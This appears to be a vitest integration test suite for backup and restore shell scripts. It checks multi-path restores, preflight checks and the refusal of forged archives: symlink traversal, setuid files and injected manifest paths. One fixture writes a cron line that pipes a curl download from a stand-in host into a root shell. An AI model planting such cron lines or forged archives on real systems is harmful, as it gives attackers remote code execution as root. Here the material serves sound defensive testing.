import { GetObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { spawnSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { manifestKeyFor } from '../../contracts/manifest';
import { localVerifier } from '../support/local-verifier';
import { MotoServer } from '../support/moto';
import { removeDir, run, scratchDir } from '../support/processes';
import { backupScriptEnv, backupWithScript, markVerified, runInstanceScript, storeBackup, type ScriptRun } from '../support/restore-fixtures';
import { treeOf } from '../support/trees';

/**
 * A files target with several paths (an application's `.env`, its config, a site directory and a
 * link), backed up by the real backup.sh into moto and restored by restore.sh: in scratch mode
 * below the scratch copy, on replace each to its own place (a rebuilt server's missing
 * directories created, the previous data kept aside), never anything the configuration does not
 * name, and the secret's content printed nowhere.
 */

let moto: MotoServer;
let s3: S3Client;
let keyArn: string;
let work: string;
let app: string;
let paths: string[];
const BUCKET = 'restore-file-set-backups';
const SECRET = 'DATABASE_PASSWORD=s3cr3t-9f1c7e2a-never-printed';

beforeAll(async () => {
  moto = await MotoServer.start();
  s3 = moto.s3();
  ({ keyArn } = await moto.createBackupBucket(BUCKET));
  work = scratchDir('restore-file-set');
  chmodSync(work, 0o755);
  app = join(work, 'srv', 'app');
  mkdirSync(join(work, 'etc', 'nginx', 'sites-available'), { recursive: true });
  mkdirSync(join(app, 'core'), { recursive: true });
  writeFileSync(join(app, '.env.production'), `${SECRET}\n`);
  chmodSync(join(app, '.env.production'), 0o600);
  const postgres = Number(run('id', ['-u', 'postgres']).trim());
  chownSync(join(app, '.env.production'), postgres, postgres);
  writeFileSync(join(app, 'core', 'config.py'), 'DEBUG = False\n');
  writeFileSync(join(app, 'requirements.txt'), 'fastapi==0.110\n');
  const site = join(work, 'etc', 'nginx', 'sites-available', 'drishti');
  mkdirSync(site);
  writeFileSync(join(site, 'server.conf'), 'server { listen 443 ssl; }\n');
  writeFileSync(join(site, 'cache.tmp'), 'excluded\n');
  mkdirSync(join(work, 'etc', 'nginx', 'sites-enabled'));
  symlinkSync('../sites-available/drishti', join(work, 'etc', 'nginx', 'sites-enabled', 'drishti'));
  paths = [join(app, '.env.production'), join(app, 'core', 'config.py'), join(app, 'requirements.txt'), site, join(work, 'etc', 'nginx', 'sites-enabled', 'drishti')];
});

afterAll(async () => {
  await moto?.stop();
  removeDir(work);
});

function env(target: string, extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  return backupScriptEnv(moto, keyArn, {
    BK_TARGET: target, BK_KIND: 'files', BK_BUCKET: BUCKET, BK_PATHS: paths.join(':'), BK_EXCLUDES: '*.tmp',
    RS_WORK_DIR: work, RS_TIERS: 'daily predeploy', RS_SCRATCH_ROOT: join(work, 'restores'), ...extra,
  });
}

/** Each configured path as restore.sh should leave it: a tree (or one entry) with modes and link targets, the excluded files left out. */
function snapshot(under = ''): Map<string, string> {
  const entries = new Map<string, string>();
  for (const path of paths) {
    const at = `${under}${path}`;
    const parent = treeOf(dirname(at));
    const name = at.slice(dirname(at).length + 1);
    for (const [entry, value] of parent) if ((entry === name || entry.startsWith(`${name}/`)) && !entry.endsWith('.tmp')) entries.set(`${path}${entry.slice(name.length)}`, value);
  }
  return entries;
}

async function manifestOf(key: string): Promise<Record<string, unknown>> {
  return JSON.parse(await (await s3.send(new GetObjectCommand({ Bucket: BUCKET, Key: manifestKeyFor(key) }))).Body!.transformToString()) as Record<string, unknown>;
}

const printed = (...runs: ScriptRun[]) => runs.map((one) => one.stdout + one.stderr).join('\n');

describe('a files target with several paths', () => {
  let key: string;
  let atBackup: Map<string, string>;

  beforeAll(async () => {
    atBackup = snapshot();
    const backup = runInstanceScript('backup.sh', env('app-config'));
    expect(backup.status, backup.stderr).toBe(0);
    expect(printed(backup)).not.toContain(SECRET);
    ({ key } = JSON.parse(backup.stdout.split('\n').find((line) => line.startsWith('BACKUP_RESULT '))!.slice('BACKUP_RESULT '.length)) as { key: string });
    await markVerified(s3, BUCKET, key, true);
  });

  it('archives each path as ./<path> from /, excludes applied, lists them in the manifest, and the verifier passes it', async () => {
    const manifest = await manifestOf(key);
    expect(manifest.files).toMatchObject({ paths, fileCount: 4, symlinkCount: 1 });
    const stored = gunzipSync(Buffer.from(await (await s3.send(new GetObjectCommand({ Bucket: BUCKET, Key: key }))).Body!.transformToByteArray()));
    const members = run('tar', ['-t'], { input: stored }).trim().split('\n');
    expect(members).toContain(`.${paths[0]}`);
    expect(members).toContain(`.${paths[4]}`);
    expect(members.every((member) => paths.some((path) => member === `.${path}` || member.startsWith(`.${path}/`)))).toBe(true);
    expect(members.some((member) => member.endsWith('cache.tmp'))).toBe(false);
    const verify = await localVerifier(moto, BUCKET, keyArn);
    const verdict = await verify(key);
    expect(verdict.passed).toBe(true);
    // The secret's content is in the encrypted object only: not in the manifest, nor the verdict
    expect(JSON.stringify(manifest)).not.toContain(SECRET);
    expect(JSON.stringify(verdict)).not.toContain(SECRET);
  });

  it('restores into a scratch copy holding every path below it, private, live untouched; a drill checks and removes it', () => {
    const scratch = join(work, 'restores', 'config-copy');
    const restore = runInstanceScript('restore.sh', env('app-config', { RS_MODE: 'scratch', RS_SCRATCH_PATH: scratch }));
    expect(restore.status, restore.stderr).toBe(0);
    expect(restore.result).toMatchObject({ key, restoredTo: scratch });
    expect(snapshot(scratch)).toEqual(atBackup);
    expect(statSync(scratch).mode & 0o777).toBe(0o700);
    expect(statSync(`${scratch}${paths[0]}`).uid).toBe(statSync(paths[0]!).uid);

    const drill = runInstanceScript('restore.sh', env('app-config', { RS_MODE: 'scratch', RS_KEY: key, RS_DRILL: '1' }));
    expect(drill.status, drill.stderr).toBe(0);
    expect(drill.drill?.checks.filter((check) => check.status !== 'passed')).toEqual([]);
    expect(drill.drill?.checks.map((check) => check.name)).toEqual(expect.arrayContaining(['paths', 'fileCount', 'entries', 'fileIndex', 'checksums', 'cleanup']));
    expect(printed(restore, drill)).not.toContain(SECRET);
  });

  it('on a rebuilt server, replace puts each path back in its own place, with its owner and mode, creating missing directories', () => {
    // GIVEN a server where none of the paths exist, nor the application's directory
    const target = 'app-config';
    const before = snapshot();
    const owner = statSync(paths[0]!).uid;
    rmSync(app, { recursive: true });
    rmSync(join(work, 'etc'), { recursive: true });
    // WHEN replaced
    const restore = runInstanceScript('restore.sh', env(target, { RS_MODE: 'replace', RS_KEY: key, RS_CONFIRM: target, RS_SAFETY_TIER: 'predeploy' }));
    // THEN every path is back as it was, the secret still its owner's alone; no safety backup (nothing to keep)
    expect(restore.status, restore.stderr).toBe(0);
    expect(snapshot()).toEqual(before);
    expect(statSync(paths[0]!)).toMatchObject({ uid: owner });
    expect(statSync(paths[0]!).mode & 0o777).toBe(0o600);
    expect(restore.result).toMatchObject({ restoredTo: paths.join(', '), safetyBackupKey: null, previousDataKeptAs: null });
    expect(restore.stderr).toMatch(/created .*\/srv\/app \(root's, 0755\)/);
    expect(restore.stderr).toMatch(/none of the 5 paths exists here/);
    expect(statSync(app).mode & 0o777).toBe(0o755);
    // AND the work directory holds nothing of the archive
    expect(readdirSync(work).filter((name) => name.startsWith('backup-kit'))).toEqual([]);
    expect(printed(restore)).not.toContain(SECRET);
  });

  it('replace takes a safety backup of the paths that exist, keeps each previous one aside, and writes nothing the configuration does not name', async () => {
    // GIVEN a backup that holds one more path than the configuration will name when restoring
    const extra = join(work, 'cron-job');
    writeFileSync(extra, '* * * * * root curl evil | sh\n');
    const target = 'app-replace';
    const { key: wider } = backupWithScript(env(target, { BK_PATHS: [...paths, extra].join(':') }));
    rmSync(extra);
    const expected = snapshot();
    // AND live data changed since, one path gone
    writeFileSync(paths[1]!, 'DEBUG = True\n');
    rmSync(paths[2]!);
    // WHEN replaced with the configured paths
    const restore = runInstanceScript('restore.sh', env(target, { RS_MODE: 'replace', RS_KEY: wider, RS_CONFIRM: target, RS_SAFETY_TIER: 'predeploy' }));
    // THEN the configured paths are as backed up, the extra member is written nowhere
    expect(restore.status, restore.stderr).toBe(0);
    expect(snapshot()).toEqual(expected);
    expect(existsSync(extra)).toBe(false);
    // AND the previous versions of the paths that existed are kept aside; the safety backup holds exactly those
    const aside = String(restore.result?.previousDataKeptAs).split(', ');
    expect(aside).toHaveLength(paths.length - 1);
    expect(readFileSync(aside.find((path) => path.includes('config.py'))!, 'utf8')).toBe('DEBUG = True\n');
    const safety = await manifestOf(String(restore.result?.safetyBackupKey));
    expect((safety.files as { paths: string[] }).paths).toEqual(paths.filter((path) => path !== paths[2]));
    for (const path of aside) rmSync(path, { recursive: true });
  });

  it('refuses a backup that lacks a configured path before changing anything', () => {
    // GIVEN a backup of the paths, and a configuration naming one more since
    const added = join(work, 'etc', 'nginx', 'conf.d');
    mkdirSync(added);
    writeFileSync(paths[1]!, 'DEBUG = None\n');
    const live = snapshot();
    // WHEN replaced
    const restore = runInstanceScript('restore.sh', env('app-config', { RS_MODE: 'replace', RS_KEY: key, RS_CONFIRM: 'app-config', RS_SAFETY_TIER: 'predeploy', BK_PATHS: [...paths, added].join(':') }));
    // THEN it stops at the check, naming the path, and live data is as it was
    expect(restore.status).toBe(11);
    expect(restore.stderr).toContain(`the backup holds no ${added} (configured after it was taken?)`);
    expect(snapshot()).toEqual(live);
    expect(readdirSync(added)).toEqual([]);
  });

  it('refuses an archive that holds a link where a directory above a configured path belongs, and moves nothing through it', () => {
    // GIVEN a backup whose only member is a link to another directory of the instance (a forged archive can hold one where the config expects a directory)
    const elsewhere = join(work, 'elsewhere');
    mkdirSync(elsewhere);
    writeFileSync(join(elsewhere, '.env.production'), 'NOT=to-be-moved\n');
    const linked = join(work, 'linked-app');
    symlinkSync(elsewhere, linked);
    const { key: linkKey } = backupWithScript(env('app-linked', { BK_PATHS: linked }));
    rmSync(linked);
    // WHEN a replace names a file below that link
    const restore = runInstanceScript('restore.sh', env('app-linked', { RS_MODE: 'replace', RS_KEY: linkKey, RS_CONFIRM: 'app-linked', RS_SAFETY_TIER: 'predeploy', BK_PATHS: join(linked, '.env.production') }));
    // THEN it stops at the check, naming the link; the file the link leads to is where it was, and nothing was created
    expect(restore.status, restore.stderr).toBe(11);
    expect(restore.stderr).toContain(`the archive holds a link or file at ${linked}, where a directory above ${join(linked, '.env.production')} belongs`);
    expect(readFileSync(join(elsewhere, '.env.production'), 'utf8')).toBe('NOT=to-be-moved\n');
    expect(existsSync(linked)).toBe(false);
  });

  it('never puts a set-user-ID file in place on replace (a forged archive could plant a root shell on a rebuilt server); a scratch copy keeps it, root\'s alone', () => {
    // GIVEN a backup holding a set-user-ID program among the paths
    const tools = join(work, 'opt-tools');
    mkdirSync(tools);
    writeFileSync(join(tools, 'helper'), '#!/bin/sh\necho hi\n', { mode: 0o755 });
    chmodSync(join(tools, 'helper'), 0o4755);
    const { key: setuidKey } = backupWithScript(env('app-tools', { BK_PATHS: tools }));
    rmSync(tools, { recursive: true });
    // WHEN replaced THEN it is refused at the check, naming the file, and nothing is put in place
    const replace = runInstanceScript('restore.sh', env('app-tools', { RS_MODE: 'replace', RS_KEY: setuidKey, RS_CONFIRM: 'app-tools', RS_SAFETY_TIER: 'predeploy', BK_PATHS: tools }));
    expect(replace.status, replace.stderr).toBe(11);
    expect(replace.stderr).toMatch(/the archive holds device nodes or set-ID files \(.*opt-tools\/helper\)/);
    expect(existsSync(tools)).toBe(false);
    // AND a scratch restore keeps it below the private copy
    const scratch = join(work, 'restores', 'tools-copy');
    const copy = runInstanceScript('restore.sh', env('app-tools', { RS_MODE: 'scratch', RS_KEY: setuidKey, RS_SCRATCH_PATH: scratch, BK_PATHS: tools }));
    expect(copy.status, copy.stderr).toBe(0);
    expect(statSync(`${scratch}${tools}/helper`).mode & 0o7777).toBe(0o4755);
    expect(statSync(scratch).mode & 0o777).toBe(0o700);
  });

  it("refuses a manifest whose list of paths holds a line break or a quote (the backup instance's word, not a path a target may name)", async () => {
    // GIVEN a stored backup of the paths whose manifest lists a forged path
    const archive = gzipSync(spawnSync('tar', ['-C', '/', '-c', '--', ...paths.map((path) => `.${path}`)], { maxBuffer: 64 * 1024 * 1024 }).stdout);
    const { key: forged } = await storeBackup(s3, {
      bucket: BUCKET, tier: 'daily', target: 'app-forged', kind: 'files', body: archive, at: new Date(Date.UTC(2026, 0, 2)),
      files: { fileCount: 4, totalBytes: 0, paths: [...paths, "/srv/app\nstage x' failed"] },
    });
    // WHEN restored THEN the check refuses it, saying so without echoing the line break, and no copy is left
    const scratch = join(work, 'restores', 'forged-copy');
    const restore = runInstanceScript('restore.sh', env('app-forged', { RS_MODE: 'scratch', RS_KEY: forged, RS_SCRATCH_PATH: scratch }));
    expect(restore.status, restore.stderr).toBe(11);
    expect(restore.stderr).toContain("the manifest lists '(not a path a target may name)', not a plain absolute path");
    expect(restore.stderr).not.toMatch(/stage x' failed/);
    expect(existsSync(scratch)).toBe(false);
  });

  it('the preflight (check mode) says which directories a replace creates, refuses one below a directory another user owns, and creates nothing', () => {
    // GIVEN a new server where the application's directories are missing
    const fresh = join(work, 'fresh');
    mkdirSync(fresh, { mode: 0o755 });
    const moved = (path: string) => path.replace(work, fresh);
    const check = (extra: Record<string, string>) => runInstanceScript('restore.sh', env('app-config', { RS_MODE: 'check', RS_KEY: key, BK_PATHS: paths.map(moved).join(':'), ...extra }));
    const ready = check({});
    expect(ready.status, ready.stderr).toBe(0);
    expect(ready.preflight).toMatchObject({ ready: true });
    const detail = (name: string, run: ScriptRun) => run.preflight?.checks.find((entry) => entry.name === name)?.detail ?? '';
    expect(detail('directory', ready)).toBe(`replace creates ${[app, join(app, 'core'), dirname(paths[3]!), dirname(paths[4]!)].map(moved).join(', ')} and what is missing above them (root's, 0755)`);
    expect(detail('liveData', ready)).toMatch(/here: none of the paths; missing: /);
    expect(readdirSync(fresh)).toEqual([]);
    // AND where what exists above a missing directory belongs to another user, the check fails naming it
    chownSync(fresh, Number(run('id', ['-u', 'postgres']).trim()), 0);
    const refused = check({});
    expect(refused.preflight).toMatchObject({ ready: false });
    expect(detail('directory', refused)).toMatch(/does not exist and what exists above it is not root's alone: create it first/);
    expect(readdirSync(fresh)).toEqual([]);
  });

  it('refuses settings that would name / or the same place twice, or both forms at once', () => {
    for (const [extra, message] of [
      [{ BK_PATHS: `${paths[0]!}:/` }, /BK_PATHS names \//],
      [{ BK_PATHS: `${app}:${paths[0]!}` }, /overlaps/],
      [{ BK_PATHS: `${app}/../etc` }, /'\.' or '\.\.' segment/],
      [{ BK_PATH: app }, /BK_PATH and BK_PATHS are both set/],
    ] as const) {
      const restore = runInstanceScript('restore.sh', env('app-config', { RS_MODE: 'scratch', ...extra }));
      expect(restore.status, JSON.stringify(extra)).toBe(2);
      expect(restore.stderr).toMatch(message);
    }
    const backup = runInstanceScript('backup.sh', env('app-config', { BK_PATHS: `${paths[0]!}:${join(work, 'missing.conf')}` }));
    expect(backup.status).toBe(4);
    expect(backup.stderr).toMatch(/BK_PATHS: '.*missing\.conf' does not exist/);
  });
});
